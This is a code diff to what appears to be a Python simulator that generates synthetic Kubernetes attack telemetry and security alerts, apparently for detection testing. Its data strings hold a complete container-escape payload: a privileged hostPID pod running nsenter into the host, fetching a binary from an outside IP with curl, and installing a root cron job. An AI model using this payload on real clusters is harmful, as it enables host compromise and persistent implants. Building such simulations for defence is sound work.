@@ -110,7 +110,7 @@ def build(out_dir: Path, seed: int) -> Truth:
     cat = run(w, sh, sh.start_ns + 2 * MS, "/bin/cat", "hack/overrides.json", 1, critical=True)
     overrides = ('{"spec":{"nodeName":"' + other.name + '","hostPID":true,"containers":[{"name":'
                  '"node-debug-7xk2q","image":"alpine:3.20","command":["nsenter","-t","1","-m",'
-                 '"-u","-i","-n","-p","--","sh","-c","curl -s http://198.51.100.7:8000/kp -o '
+                 '"-u","-i","-p","--","sh","-c","curl -s http://198.51.100.7:8000/kp -o '
                  '/usr/local/bin/kube-proxy-health; chmod +x /usr/local/bin/kube-proxy-health; '
                  'echo \\"* * * * * root /usr/local/bin/kube-proxy-health\\" > '
                  '/etc/cron.d/kube-proxy-health; /usr/local/bin/kube-proxy-health"],'
@@ -123,7 +123,7 @@ def build(out_dir: Path, seed: int) -> Truth:
     sim.exit_(bash, created + 6 * NS, critical=True)
 
     pwl = Workload("ci", "node-debug-7xk2q", "Pod", {"run": "node-debug-7xk2q"}, "alpine:3.20",
-                   "/usr/bin/nsenter", "-t 1 -m -u -i -n -p -- sh -c curl -s "
+                   "/usr/bin/nsenter", "-t 1 -m -u -i -p -- sh -c curl -s "
                    "http://198.51.100.7:8000/kp -o /usr/local/bin/kube-proxy-health; chmod +x "
                    "/usr/local/bin/kube-proxy-health; echo \"* * * * * root "
                    "/usr/local/bin/kube-proxy-health\" > /etc/cron.d/kube-proxy-health; "
@@ -134,20 +134,21 @@ def build(out_dir: Path, seed: int) -> Truth:
     nsenter = start_pod(w, priv, critical=True)
     fc.emit_alert(sim.sink, nsenter, nsenter.start_ns + 300_000, "Launch Privileged Container",
                   critical=True)
+    # what nsenter starts runs in the host's namespaces (still in the pod's cgroup)
     hsh = run(w, nsenter, nsenter.start_ns + 4 * MS, "/bin/sh", "-c " + pwl.arguments.split(
-        "sh -c ", 1)[1], exit_=False, critical=True)
+        "sh -c ", 1)[1], exit_=False, critical=True, host_ns=True, cwd="/")
     curl = run(w, hsh, hsh.start_ns + 3 * MS, "/usr/bin/curl",
                f"-s http://{DROP[0]}:{DROP[1]}/kp -o /usr/local/bin/kube-proxy-health",
-               exit_=False, critical=True)
+               exit_=False, critical=True, host_ns=True)
     end = connect_out(w, curl, curl.start_ns + MS, DROP[0], DROP[1], dur_ms=1200, critical=True)
     sim.exit_(curl, end + MS, critical=True)
     run(w, hsh, end + 3 * MS, "/bin/chmod", "+x /usr/local/bin/kube-proxy-health", 1,
-        critical=True)
+        critical=True, host_ns=True)
     file_hook(w, hsh, end + 6 * MS, "/etc/cron.d/kube-proxy-health", MAY_WRITE, critical=True)
     fc.emit_alert(sim.sink, hsh, end + 6 * MS + 20_000, "Schedule Cron Jobs", evt_type="openat",
                   extra={"fd.name": "/etc/cron.d/kube-proxy-health"}, critical=True)
     implant = run(w, hsh, end + 9 * MS, "/usr/local/bin/kube-proxy-health", "", exit_=False,
-                  critical=True)
+                  critical=True, host_ns=True)
     fc.emit_alert(sim.sink, implant, implant.start_ns + 200_000,
                   "Drop and execute new binary in container", critical=True)
     for tb in every(w, 45, implant.start_ns + 300 * MS, w.end - 20 * NS, jitter=0.1):
